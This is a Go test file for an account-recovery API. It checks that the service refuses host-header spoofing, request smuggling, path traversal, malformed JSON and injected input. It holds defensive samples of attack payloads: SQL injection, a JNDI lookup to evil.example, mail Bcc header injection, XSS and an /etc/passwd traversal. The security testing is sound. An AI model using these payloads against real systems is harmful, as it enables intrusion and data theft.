package app_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/holdfast/holdfast/api/client"
	"github.com/holdfast/holdfast/internal/app/apptest"
	"github.com/holdfast/holdfast/internal/notify"
)

// wire writes a request to the service byte by byte as it is, and reads what comes back.
func wire(t *testing.T, s *apptest.Service, request string) apptest.Answer {
	t.Helper()
	conn, err := (&net.Dialer{}).DialContext(t.Context(), "tcp", s.Addr)
	require.NoError(t, err)
	defer func() { _ = conn.Close() }()
	require.NoError(t, conn.SetDeadline(time.Now().Add(apptest.Patience)))
	_, err = io.WriteString(conn, request)
	require.NoError(t, err)
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	require.NoError(t, err)
	defer func() { _ = res.Body.Close() }()
	body, err := io.ReadAll(res.Body)
	require.NoError(t, err)
	return apptest.Answer{Status: res.StatusCode, Header: res.Header, Body: string(body)}
}

// post writes a POST with further header lines; the target may be anything.
func post(target, host, bearer, key, body string, lines ...string) string {
	head := []string{
		"POST " + target + " HTTP/1.1", "Host: " + host, "Authorization: Bearer " + bearer, `Idempotency-Key: "` + key + `"`,
		"Content-Type: application/json", fmt.Sprintf("Content-Length: %d", len(body)), "Connection: close",
	}
	return strings.Join(append(head, lines...), "\r\n") + "\r\n\r\n" + body
}

// R-035, T19. Whatever a request says of the host, links and answers have the configured one.
func TestAHostileHost_ReachesNoMessageAndNoAnswer(t *testing.T) {
	t.Parallel()
	s := apptest.New(t)
	hostile := map[string]func(path, key, body string, claimant ...string) string{
		"Host": func(path, key, body string, claimant ...string) string {
			return post(path, "evil.example", s.AppToken, key, body, claimant...)
		},
		"an absolute URI": func(path, key, body string, claimant ...string) string {
			return post("http://evil.example"+path, "evil.example", s.AppToken, key, body, claimant...)
		},
		"forwarding headers": func(path, key, body string, claimant ...string) string {
			return post(path, s.Addr, s.AppToken, key, body, append(claimant,
				"X-Forwarded-Host: evil.example", "X-Forwarded-Proto: http", "X-Forwarded-For: 198.51.100.66", "X-Original-URL: http://evil.example/",
				"Forwarded: for=evil.example;host=evil.example;proto=http", "X-Host: evil.example", "Referer: http://evil.example/")...)
		},
	}
	n := 0
	for name, write := range hostile {
		n++
		email, phone := fmt.Sprintf("h%d@example.com", n), fmt.Sprintf("+44770090020%d", n)
		s.Register(t, apptest.Person{Ref: fmt.Sprintf("h%d", n), Email: email, Phone: phone})
		body, err := json.Marshal(apptest.Claimant{Identifier: apptest.Email(email)}.Body())
		require.NoError(t, err)
		a := wire(t, s, write("/v1/recoveries", name+" start", string(body)))
		require.NotContains(t, a.Body+fmt.Sprint(a.Header), "evil", name)
		c := s.Claim(apptest.Decode[client.StartedRecovery](t, a, http.StatusCreated))
		a = wire(t, s, write("/v1/recoveries/"+c.ID+"/challenges", name+" ask", `{"method":"email"}`, "Holdfast-Claimant: "+c.ClaimantToken))
		ch := apptest.Decode[client.Challenge](t, a, http.StatusCreated)
		a = wire(t, s, write("/v1/recoveries/"+c.ID+"/challenges", name+" ask too soon", `{"method":"email"}`, "Holdfast-Claimant: "+c.ClaimantToken))
		require.Equal(t, apptest.Public+"/problems/resend_too_soon", apptest.JSON(t, a.Body)["type"], name)
		require.Equal(t, http.StatusOK, c.Answer(t, ch.ID, s.Mail.Code(t, ch.ID, 1)).Status)
		s.Mail.Link(t, email, notify.HoldEntered, 1)
		s.Mail.Link(t, phone, notify.HoldEntered, 1)
	}
	for _, m := range s.Mail.All() {
		require.NotContains(t, m.Subject+m.Text+m.HTML+strings.Join(m.Links, " "), "evil")
	}
	require.NotContains(t, s.Log.String(), "evil.example", "nor is it logged as if it were ours")
}

// What HTTP itself forbids never gets to the service; what it allows twice, the service does not.
func TestAmbiguousRequests_AreRefused(t *testing.T) {
	t.Parallel()
	s := apptest.New(t)
	s.Register(t, apptest.Person{Ref: "ada", Email: ada, Phone: adaPhone})
	c := s.Start(t, apptest.Claimant{Identifier: apptest.Email(ada)})
	settle(t, s)
	before := s.Rows(t)
	start := `{"identifier":{"type":"email","value":"ada@example.com"},"reason":"lost_password"}`
	claimantLine := "Holdfast-Claimant: " + c.ClaimantToken
	for name, tc := range map[string]struct {
		request string
		status  int
		code    string // empty where HTTP's own refusal is plain
	}{
		"two hosts":              {post("/v1/recoveries", s.Addr, s.AppToken, "k", start, "Host: evil.example"), 400, ""},
		"no host":                {strings.Replace(post("/v1/recoveries", "x", s.AppToken, "k", start), "Host: x\r\n", "", 1), 400, ""},
		"two lengths":            {post("/v1/recoveries", s.Addr, s.AppToken, "k", start, "Content-Length: 5"), 400, ""},
		"a space in a name":      {post("/v1/recoveries", s.Addr, s.AppToken, "k", start, "Holdfast-Claimant : x"), 400, ""},
		"two credentials":        {post("/v1/recoveries", s.Addr, s.AppToken, "k", start, "Authorization: Bearer "+s.IdentityToken), 401, "unauthenticated"},
		"two keys":               {post("/v1/recoveries", s.Addr, s.AppToken, "k", start, `Idempotency-Key: "l"`), 400, "idempotency_key_invalid"},
		"two media types":        {post("/v1/recoveries", s.Addr, s.AppToken, "k", start, "Content-Type: text/plain"), 415, "unsupported_media_type"},
		"an encoding":            {post("/v1/recoveries", s.Addr, s.AppToken, "k", start, "Content-Encoding: gzip"), 415, "unsupported_media_type"},
		"two claimants":          {post("/v1/recoveries/"+c.ID+"/cancel", s.Addr, s.AppToken, "k", "", claimantLine, claimantLine), 404, "not_found"},
		"a query":                {post("/v1/recoveries?email="+ada, s.Addr, s.AppToken, "k", start), 422, "invalid_request"},
		"TRACE":                  {strings.Replace(post("/v1/recoveries", s.Addr, s.AppToken, "k", ""), "POST", "TRACE", 1), 405, "method_not_allowed"},
		"OPTIONS":                {strings.Replace(post("/v1/recoveries", s.Addr, s.AppToken, "k", ""), "POST", "OPTIONS", 1), 405, "method_not_allowed"},
		"a method of its own":    {strings.Replace(post("/v1/recoveries", s.Addr, s.AppToken, "k", ""), "POST", "FROB", 1), 405, "method_not_allowed"},
		"a traversal":            {post("/v1/accounts/../recoveries", s.Addr, s.AppToken, "k", start), 404, "not_found"},
		"an escaped traversal":   {post("/v1/recoveries/%2e%2e%2f%00/cancel", s.Addr, s.AppToken, "k", "", claimantLine), 404, "not_found"},
		"a long credential":      {post("/v1/recoveries", s.Addr, strings.Repeat("a", 5000), "k", start), 401, "unauthenticated"},
		"endless headers":        {post("/v1/recoveries", s.Addr, s.AppToken, "k", start, "X-Long: "+strings.Repeat("a", 60<<10)), 431, ""},
		"control characters":     {post("/v1/recoveries", s.Addr, s.AppToken, "k\x00", start), 400, ""},
		"a credential's garbage": {post("/v1/recoveries", s.Addr, "hfk_'; DROP TABLE account; --", "k", start), 401, "unauthenticated"},
	} {
		a := wire(t, s, tc.request)
		require.Equal(t, tc.status, a.Status, "%s: %s", name, a.Body)
		require.Equal(t, tc.code, a.Code(), "%s: %s", name, a.Body)
		if tc.code != "" {
			require.Equal(t, "application/problem+json", a.Header.Get("Content-Type"), name)
		}
		require.NotContains(t, a.Body, "evil", name)
		require.Empty(t, a.Header.Get("Server"), name)
	}
	require.Empty(t, apptest.Grown(before, s.Rows(t)), "nothing was changed")
}

// badBodies are no bodies for anything.
func badBodies() map[string]string {
	return map[string]string{
		"nothing": "", "a word": "hello", "null": "null", "a list": "[]", "a number": "1e400", "a string": `"{}"`, "two values": "{}{}",
		"cut off": `{"identifier":{"type":"em`, "a trailing comma": `{"a":1,}`, "a comment": `{/* */}`, "single quotes": `{'a':1}`,
		"a BOM": "\ufeff{}", "UTF-16": "\xff\xfe{\x00}\x00", "bad UTF-8": "{\"a\":\"\xc3\x28\"}", "a NUL": "{\"a\":\"\x00\"}",
		"an escaped NUL": `{"identifier":{"type":"email","value":"a\u0000@example.com"},"reason":"lost_password"}`,
		"half a pair":    `{"identifier":{"type":"email","value":"\ud800@example.com"},"reason":"lost_password"}`,
		"deep lists":     strings.Repeat("[", 20_000), "deep objects": strings.Repeat(`{"a":`, 10_000) + "1" + strings.Repeat("}", 10_000),
		"a member twice":    `{"reason":"lost_password","reason":"lost_all","identifier":{"type":"email","value":"ada@example.com"}}`,
		"a member too many": `{"reason":"lost_password","identifier":{"type":"email","value":"ada@example.com"},"account_ref":"ada"}`,
		"other letters":     `{"Reason":"lost_password","IDENTIFIER":{"type":"email","value":"ada@example.com"}}`,
		"another type":      `{"reason":7,"identifier":"ada@example.com","method":[],"code":{"$ne":1},"grant":1,"token":[]}`,
		"too large":         `{"reason":"` + strings.Repeat("a", 70<<10) + `"}`,
		"a huge value":      `{"reason":"lost_password","identifier":{"type":"email","value":"` + strings.Repeat("a", 60<<10) + `"}}`,
		"a prototype":       `{"__proto__":{"admin":true}}`,
	}
}

// R-034 R-146 R-152. Every body that is none gets a problem document, wherever it is sent, and changes nothing.
func TestBadBodies_AreRefusedEverywhereAndChangeNothing(t *testing.T) {
	t.Parallel()
	s := apptest.New(t)
	s.Register(t, apptest.Person{Ref: "ada", Email: ada, Phone: adaPhone})
	c := s.Start(t, apptest.Claimant{Identifier: apptest.Email(ada)})
	ch := c.Ask(t, client.MethodEmail)
	s.Mail.Code(t, ch.ID, 1)
	settle(t, s)
	before := s.Rows(t)
	account := func(method, path string) apptest.Request {
		return apptest.Request{Method: method, Path: "/v1/accounts/ada" + path, As: s.IdentityToken}
	}
	targets := []apptest.Request{
		{Method: http.MethodPost, Path: "/v1/recoveries", As: s.AppToken},
		c.Request(http.MethodPost, "/challenges", nil), c.Request(http.MethodPost, "/challenges/"+ch.ID+"/answers", nil),
		c.Request(http.MethodPost, "/cancel", nil), c.Request(http.MethodPost, "/grant", nil),
		{Method: http.MethodPost, Path: "/v1/grants/redeem", As: s.IdentityToken},
		{Method: http.MethodPost, Path: "/v1/objections"},
		account(http.MethodPut, ""), account(http.MethodPost, "/factors"), account(http.MethodPost, "/recovery-codes"), account(http.MethodPost, "/objections"),
	}
	for name, body := range badBodies() {
		for _, r := range targets {
			if body == "" && (strings.HasSuffix(r.Path, "/cancel") || strings.HasSuffix(r.Path, "/grant") || strings.HasSuffix(r.Path, "/recovery-codes")) {
				continue // there it may be left out
			}
			r.Body = body
			a := s.Do(t, r)
			require.Contains(t, []int{400, 413, 415, 422}, a.Status, "%s to %s: %s", name, r.Path, a.Body)
			require.NotContains(t, a.Body, "ada@example.com", "%s to %s", name, r.Path)
		}
	}
	for _, media := range [][]string{nil, {"text/plain"}, {"application/json; charset=utf-16"}, {"application/x-www-form-urlencoded"}, {"multipart/form-data; boundary=x"}} {
		r := targets[0]
		r.Body, r.Header = `{"identifier":{"type":"email","value":"ada@example.com"},"reason":"lost_password"}`, http.Header{"Content-Type": media}
		apptest.Refused(t, s.Do(t, r), http.StatusUnsupportedMediaType, client.ProblemCodeUnsupportedMediaType)
	}
	require.Empty(t, apptest.Grown(before, s.Rows(t)), "nothing was changed")
}

// injections are texts that mean something to somebody further down.
func injections() []string {
	return []string{
		`'; DROP TABLE account; --`, `" OR ""="`, `1) UNION SELECT secret_hash FROM client_credential --`, `$1`, `%s%n`, `{{.Tenant}}`, `${jndi:ldap://evil.example}`,
		"a@example.com\r\nBcc: evil@evil.example", "a@example.com\nSubject: x", "a@example.com,evil@evil.example", "a@example.com evil@evil.example",
		"a@example.com%0d%0aBcc:evil@evil.example", "a@example.com\u2028x", "<script>alert(1)</script>@example.com", "../../etc/passwd", "\u202egnp.exe",
		"a@example.com\x7f", "\x1b[31mred", strings.Repeat("é", 160), "*", "_", "\\", "/", "AAAA\tBBBB",
	}
}

// T20. Texts that mean something to a database, a mail server, a template or a terminal are texts, in every field.
func TestInjections_AreTexts(t *testing.T) {
	t.Parallel()
	s := apptest.New(t, apptest.WithEnv("HOLDFAST_LIMIT_FACTOR=100"))
	s.Register(t, apptest.Person{Ref: "ada", Email: ada, Phone: adaPhone})
	c := s.Start(t, apptest.Claimant{Identifier: apptest.Email(ada)})
	ch := c.Ask(t, client.MethodEmail)
	s.Mail.Code(t, ch.ID, 1)
	settle(t, s)
	before, sent := s.Rows(t), len(s.Mail.All())
	send := func(method, path, as string, body any) apptest.Answer {
		a := s.Do(t, apptest.Request{Method: method, Path: path, As: as, Body: body, Claimant: c.ClaimantToken})
		require.Less(t, a.Status, 500, "%s %s: %s", method, path, a.Body)
		require.NotContains(t, a.Body, "evil")
		return a
	}
	starts := 0
	for _, x := range injections() {
		for _, typ := range []client.IdentifierType{"email", "phone", "username"} {
			if send(http.MethodPost, "/v1/recoveries", s.AppToken, client.StartRequest{Identifier: client.Identifier{Type: typ, Value: x}, Reason: client.LostAll}).Status == 201 {
				starts++
			}
		}
		ip := "192.0.2.77"
		if send(http.MethodPost, "/v1/recoveries", s.AppToken, client.StartRequest{
			Identifier: apptest.Email(nobody), Reason: client.LostAll, Client: &client.EndUser{IP: &ip, UserAgent: &x, DeviceID: &x},
		}).Status == 201 {
			starts++
		}
		send(http.MethodPost, "/v1/recoveries", s.AppToken, map[string]any{"identifier": apptest.Email(ada), "reason": x})
		send(http.MethodPost, "/v1/recoveries/"+c.ID+"/challenges", s.AppToken, map[string]string{"method": x})
		send(http.MethodPost, "/v1/grants/redeem", s.IdentityToken, client.RedeemRequest{Grant: x})
		send(http.MethodPost, "/v1/objections", "", client.ObjectionRequest{Token: x})
		for _, field := range []string{"population", "locale"} {
			var registration map[string]any
			text, err := json.Marshal(s.Registration(t, apptest.Person{Email: "new@example.com"}))
			require.NoError(t, err)
			require.NoError(t, json.Unmarshal(text, &registration))
			registration[field] = x
			require.GreaterOrEqual(t, send(http.MethodPut, "/v1/accounts/new", s.IdentityToken, registration).Status, 400, "%s %q", field, x)
		}
		require.GreaterOrEqual(t, send(http.MethodPut, "/v1/accounts/new", s.IdentityToken, client.AccountRegistration{
			Population: "consumer", Assurance: client.Assurance{Aal: 1}, Identifiers: []client.Identifier{},
			Channels: []client.Channel{{Type: client.ChannelTypeEmail, Address: x, VerifiedAt: s.Now(t)}},
		}).Status, 400, "an address %q", x)
	}
	settle(t, s)
	require.Positive(t, starts, "a name may be odd")
	grown := grownBeside(before, s.Rows(t), "public.idempotency", "public.assessment", "public.audit_event", "public.audit_version", "public.audit_personal")
	require.Equal(t, map[string]int{"public.recovery": starts}, grown, "decoys, and nothing else")
	require.Len(t, s.Mail.All(), sent, "nobody got a message")
	require.NotContains(t, s.Log.String(), "\x1b[31m")
}
